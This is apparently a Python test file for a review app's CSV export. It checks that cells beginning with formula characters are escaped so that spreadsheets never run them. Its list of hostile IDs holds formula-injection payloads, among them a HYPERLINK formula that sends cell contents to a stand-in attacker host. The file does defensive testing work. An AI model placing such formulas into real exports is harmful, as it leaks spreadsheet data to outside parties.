"""Files the evaluation writes: CSV cells a spreadsheet never runs as formulas."""

import csv
import io
import json

from review_app.evaluation.evaluate import evaluate
from review_app.evaluation.labels import load_cases
from review_app.evaluation.report import csv_cell, write_evaluation

from .conftest import LABELS_DIR

HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1)", "\tcmd", "\r=1+1"]


def test_csv_cells_that_start_like_formulas_are_neutralized_numbers_stay_numbers():
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]
    assert [csv_cell(v) for v in (-0.5, -3, 0.25, True, "plain", "a=b", " =1", "")] == [
        -0.5, -3, 0.25, True, "plain", "a=b", " =1", ""]


def test_every_cell_of_the_evaluation_csv_is_safe_to_open(engine, settings, tmp_path):
    lines = (LABELS_DIR / "canonical.jsonl").read_text(encoding="utf-8").split("\n")[:len(HOSTILE_IDS)]
    path = tmp_path / "hostile.jsonl"
    path.write_text("".join(json.dumps({**json.loads(line), "id": f"{hostile}-{n}"}) + "\n"
                            for n, (line, hostile) in enumerate(zip(lines, HOSTILE_IDS, strict=True))),
                    encoding="utf-8")
    cases = load_cases(path)
    evaluation = evaluate(engine, cases, settings, "hostile")
    _, csv_path = write_evaluation(evaluation, tmp_path / "exports")
    rows = list(csv.DictReader(io.StringIO(csv_path.read_bytes().decode("utf-8"), newline="")))
    assert [r["id"] for r in rows] == ["'" + c.id for c in cases]
    for row in rows:  # nothing a spreadsheet would run; numbers are written as numbers
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
        assert float(row["max_support_score"]) >= 0


def test_a_carriage_return_or_line_feed_inside_text_never_starts_a_row():
    from review_app.evaluation.report import csv_text

    text = csv_text(["id", "score"], [{"id": "a\r=1+1", "score": -1.5}, {"id": "b\n@x", "score": 2}])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["id", "score"], ["a\r=1+1", "-1.5"], ["b\n@x", "2"]]
